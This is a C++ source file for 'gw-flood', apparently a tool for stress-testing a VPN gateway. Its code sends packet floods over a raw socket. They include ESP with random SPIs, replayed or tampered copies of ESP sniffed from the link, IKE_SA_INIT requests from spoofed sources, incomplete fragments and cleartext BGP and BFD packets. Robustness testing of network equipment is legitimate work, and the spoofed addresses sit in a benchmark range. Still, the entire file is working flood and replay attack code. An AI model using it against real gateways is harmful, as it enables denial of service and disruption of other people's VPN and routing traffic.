// gw-flood: attacks on a gateway's wan port, as many packets a second as one core makes, by a packet socket on the
// link.
//
//   gw-flood KIND --interface IF --mac GATEWAY_MAC --to ADDRESS [--inner ADDRESS] [--seconds S] [--rate N]
//
// KIND: unknown-spi  ESP, native and in UDP in turns, of random SPIs and sources
//       bad-icv      ESP of a live SA (seen on the link first) with fresh sequence numbers and damaged content
//       replay       ESP of live SAs, as it was seen
//       ike-init     IKE_SA_INIT requests that charon could answer, each of another source
//       fragments    first fragments of ESP and UDP whose rest never comes
//       clear        UDP, BFD and TCP SYNs for BGP, unencrypted, to the gateway and to its address in a tunnel
//       (--inner)
// Prints one JSON object. IPv4. One thread, no dependencies.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>
#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <map>
#include <print>
#include <random>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;
using Bytes = std::vector<std::uint8_t>;

constexpr std::size_t kEthernet = 14;
constexpr std::size_t kIp = 20;
constexpr std::size_t kUdp = 8;
constexpr std::size_t kBatch = 64;
constexpr std::size_t kPool = 1024;  // packets made before, and made anew one by one
constexpr auto kLook = std::chrono::seconds(3);

std::uint32_t draw() {
  static std::minstd_rand numbers{std::random_device{}()};
  return static_cast<std::uint32_t>(numbers());
}

[[noreturn]] void die(std::string_view why) {
  std::println(stderr, "gw-flood: {}", why);
  std::exit(1);
}

void put16(Bytes& p, std::size_t at, std::uint32_t v) {
  p[at] = static_cast<std::uint8_t>(v >> 8);
  p[at + 1] = static_cast<std::uint8_t>(v);
}
void put32(Bytes& p, std::size_t at, std::uint32_t v) {
  put16(p, at, v >> 16);
  put16(p, at + 2, v);
}
std::uint32_t get32(const Bytes& p, std::size_t at) {
  return std::uint32_t{p[at]} << 24 | std::uint32_t{p[at + 1]} << 16 | std::uint32_t{p[at + 2]} << 8 | p[at + 3];
}
void fill_random(Bytes& p, std::size_t from) {
  for (std::size_t i = from; i < p.size(); ++i) p[i] = static_cast<std::uint8_t>(draw() >> 8);
}

struct Options {
  std::string kind;
  std::string interface;
  std::array<std::uint8_t, 6> mac{};
  std::uint32_t to = 0;
  std::uint32_t inner = 0;
  double seconds = 5;
  double rate = 0;  // packets a second; 0: as many as can be
};

std::uint32_t parse_address(const char* text) {
  in_addr address{};
  if (::inet_pton(AF_INET, text, &address) != 1) die(std::string("no IPv4 address: ") + text);
  return ntohl(address.s_addr);
}

Options parse(int argc, char** argv) {
  if (argc < 2) die("which kind?");
  Options o{.kind = argv[1]};
  for (int i = 2; i + 1 < argc; i += 2) {
    const std::string_view key = argv[i];
    const char* const value = argv[i + 1];
    if (key == "--interface")
      o.interface = value;
    else if (key == "--mac") {
      auto& m = o.mac;
      if (std::sscanf(value, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
        die(std::string("no MAC address: ") + value);
    } else if (key == "--to")
      o.to = parse_address(value);
    else if (key == "--inner")
      o.inner = parse_address(value);
    else if (key == "--seconds")
      o.seconds = std::atof(value);
    else if (key == "--rate")
      o.rate = std::atof(value);
    else
      die(std::string("unknown option ") + std::string(key));
  }
  return o;
}

/// Anywhere but here: 198.18.0.0/15 is for tests of network equipment (RFC 2544).
std::uint32_t any_source() { return 0xc6120000U | (draw() >> 7 & 0x1ffff); }

class Link {
 public:
  explicit Link(const std::string& interface) : fd_(::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))) {
    sockaddr_ll address{};
    address.sll_family = AF_PACKET;
    address.sll_protocol = htons(ETH_P_ALL);
    address.sll_ifindex = static_cast<int>(::if_nametoindex(interface.c_str()));
    if (fd_ < 0 || ::bind(fd_, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0)
      die("cannot open " + interface);
    const int on = 1;
    (void)::setsockopt(fd_, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
  }
  int fd() const { return fd_; }

  /// ESP to the gateway, native or in UDP; up to `count` packets.
  std::vector<Bytes> look(std::uint32_t to, std::size_t count) const {
    std::vector<Bytes> seen;
    const timeval patience{.tv_sec = 0, .tv_usec = 100'000};
    (void)::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    for (const auto end = Clock::now() + kLook; seen.size() < count && Clock::now() < end;) {
      Bytes p(65536);
      const ssize_t n = ::recv(fd_, p.data(), p.size(), 0);
      if (n < static_cast<ssize_t>(kEthernet + kIp + kUdp + 16) || n > 1514) continue;
      p.resize(static_cast<std::size_t>(n));
      if (p[12] != 8 || p[13] != 0 || p[14] != 0x45 || get32(p, kEthernet + 16) != to) continue;
      const std::size_t transport = kEthernet + kIp;
      const bool udp = p[kEthernet + 9] == 17 && p[transport + 2] == 0x11 && p[transport + 3] == 0x94;
      if ((udp && get32(p, transport + kUdp) != 0) || p[kEthernet + 9] == 50) seen.push_back(std::move(p));
    }
    return seen;
  }

 private:
  int fd_;
};

/// Headers for a payload of this size; the payload is zero.
class Maker {
 public:
  explicit Maker(const Options& o) : o_(o) {}
  struct Ends {
    std::uint32_t src;
    std::uint32_t dst;
  };
  Bytes ip(std::uint8_t protocol, Ends ends, std::size_t payload, std::uint32_t fragment = 0) const {
    Bytes p(kEthernet + kIp + payload);
    std::ranges::copy(o_.mac, p.begin());
    p[6] = 2;
    p[12] = 8;
    p[14] = 0x45;
    put16(p, 16, static_cast<std::uint32_t>(kIp + payload));
    put16(p, 18, draw() & 0xffff);
    put16(p, 20, fragment);
    p[22] = 60;
    p[23] = protocol;
    put32(p, 26, ends.src);
    put32(p, 30, ends.dst);
    std::uint32_t sum = 0;
    for (std::size_t i = 14; i < 34; i += 2) sum += std::uint32_t{p[i]} << 8 | p[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    put16(p, 24, ~sum & 0xffff);
    return p;
  }
  struct Ports {
    std::uint16_t src;
    std::uint16_t dst;
  };
  Bytes udp(Ends ends, Ports ports, std::size_t payload) const {
    Bytes p = ip(17, ends, kUdp + payload);
    put16(p, 34, ports.src);
    put16(p, 36, ports.dst);
    put16(p, 38, static_cast<std::uint32_t>(kUdp + payload));
    return p;
  }
  Ends to_gateway() const { return {any_source(), o_.to}; }

 private:
  const Options& o_;
};

/// RFC 7296 3: AES-256, SHA-256, modp2048, with a key exchange and a nonce that mean nothing.
Bytes ike_init(const Maker& make) {
  static constexpr std::array<std::uint8_t, 48> kSa{
      34, 0, 0, 48, 0, 0, 0, 44, 1,    1,  0, 4,  // SA, a proposal of IKE, four transforms
      3,  0, 0, 12, 1, 0, 0, 12, 0x80, 14, 1, 0,  // AES-CBC, 256 bits
      3,  0, 0, 8,  2, 0, 0, 5,                   // HMAC-SHA2-256
      3,  0, 0, 8,  3, 0, 0, 12,                  // HMAC-SHA2-256-128
      0,  0, 0, 8,  4, 0, 0, 14};                 // modp2048
  constexpr std::size_t kKe = 8 + 256;
  constexpr std::size_t kNonce = 4 + 32;
  constexpr std::size_t kAt = kEthernet + kIp + kUdp;
  constexpr std::size_t kLength = 28 + kSa.size() + kKe + kNonce;
  Bytes p = make.udp(make.to_gateway(), {500, 500}, kLength);
  fill_random(p, kAt);
  std::fill_n(p.begin() + kAt + 8, 8, std::uint8_t{0});  // no responder yet
  p[kAt + 16] = 33;
  p[kAt + 17] = 0x20;
  p[kAt + 18] = 34;
  p[kAt + 19] = 0x08;
  put32(p, kAt + 20, 0);
  put32(p, kAt + 24, kLength);
  std::ranges::copy(kSa, p.begin() + kAt + 28);
  const std::size_t ke = kAt + 28 + kSa.size();
  for (const std::size_t at : {ke, ke + kKe}) p[at + 1] = 0;
  p[ke] = 40;
  put16(p, ke + 2, kKe);
  put32(p, ke + 4, 14U << 16);
  p[ke + kKe] = 0;
  put16(p, ke + kKe + 2, kNonce);
  return p;
}

std::size_t esp_at(const Bytes& p) { return kEthernet + kIp + (p[kEthernet + 9] == 17 ? kUdp : 0); }

using Make = std::function<Bytes()>;

Bytes damaged(const Bytes& seen, std::uint32_t ahead) {
  Bytes p = seen;
  const std::size_t at = esp_at(p);
  put32(p, at + 4, get32(p, at + 4) + ahead);
  fill_random(p, at + 8);
  if (at > kEthernet + kIp) put16(p, kEthernet + kIp + 6, 0);  // the UDP checksum: none
  return p;
}

Make maker_of(const Options& o, const Maker& make, const Link& link) {
  if (o.kind == "unknown-spi")
    return [&] {
      const bool udp = (draw() & 64) != 0;
      Bytes p = udp ? make.udp(make.to_gateway(), {4500, 4500}, 100) : make.ip(50, make.to_gateway(), 100);
      fill_random(p, esp_at(p));
      p[esp_at(p)] |= 0x80;
      return p;
    };
  if (o.kind == "bad-icv" || o.kind == "replay") {
    const std::vector<Bytes> seen = link.look(o.to, 64);
    if (seen.empty()) die("no ESP to the gateway passes on this link");
    if (o.kind == "replay") return [seen, n = std::size_t{0}] mutable { return seen[n++ % seen.size()]; };
    // Far enough ahead that what the site sends meanwhile does not make it old.
    return [seen, n = 0U] mutable {
      ++n;
      return damaged(seen[n % seen.size()], 1'000'000 + n % 1'000'000);
    };
  }
  if (o.kind == "ike-init") return [&] { return ike_init(make); };
  if (o.kind == "fragments")
    return [&] {
      constexpr std::uint32_t kMoreFragments = 0x2000;
      Bytes p = make.ip((draw() & 64) != 0 ? 50 : 17, make.to_gateway(), 800, kMoreFragments);
      fill_random(p, kEthernet + kIp);
      put32(p, kEthernet + kIp, 4500U << 16 | 4500U);
      return p;
    };
  if (o.kind == "clear")
    return [&] {
      const Maker::Ends ends{any_source(), o.inner != 0 && (draw() & 64) != 0 ? o.inner : o.to};
      if ((draw() & 64) != 0) return make.udp(ends, {49152, 3784}, 24);
      Bytes p = make.ip(6, ends, 20);
      put16(p, 34, draw() & 0xffff);
      put16(p, 36, 179);
      put32(p, 38, draw());
      p[46] = 0x50;
      p[47] = 0x02;  // SYN
      return p;
    };
  die("unknown kind " + o.kind);
}

}  // namespace

int main(int argc, char** argv) {
  const Options o = parse(argc, argv);
  const Link link(o.interface);
  const Maker make(o);
  const Make next = maker_of(o, make, link);
  std::vector<Bytes> pool(kPool);
  for (Bytes& p : pool) p = next();
  std::array<mmsghdr, kBatch> messages{};
  std::array<iovec, kBatch> pieces{};
  std::uint64_t sent = 0;
  std::uint64_t refused = 0;
  std::size_t at = 0;
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(o.seconds));
  for (auto now = start; now < end; now = Clock::now()) {
    for (std::size_t i = 0; i < kBatch; ++i) {
      Bytes& p = pool[at++ % kPool];
      if (i % 4 == 0) p = next();  // not all: that is what the sender's time goes into
      pieces[i] = {.iov_base = p.data(), .iov_len = p.size()};
      messages[i].msg_hdr = {};
      messages[i].msg_hdr.msg_iov = &pieces[i];
      messages[i].msg_hdr.msg_iovlen = 1;
    }
    const int n = ::sendmmsg(link.fd(), messages.data(), kBatch, 0);
    if (n > 0)
      sent += static_cast<std::uint64_t>(n);
    else
      ++refused;
    if (o.rate > 0)
      std::this_thread::sleep_until(start + std::chrono::duration_cast<Clock::duration>(
                                                std::chrono::duration<double>(static_cast<double>(sent) / o.rate)));
  }
  const double took = std::chrono::duration<double>(Clock::now() - start).count();
  std::println(R"({{"kind": "{}", "sent": {}, "refused": {}, "seconds": {:.3f}, "per_second": {:.0f}}})", o.kind, sent,
               refused, took, static_cast<double>(sent) / took);
  return 0;
}
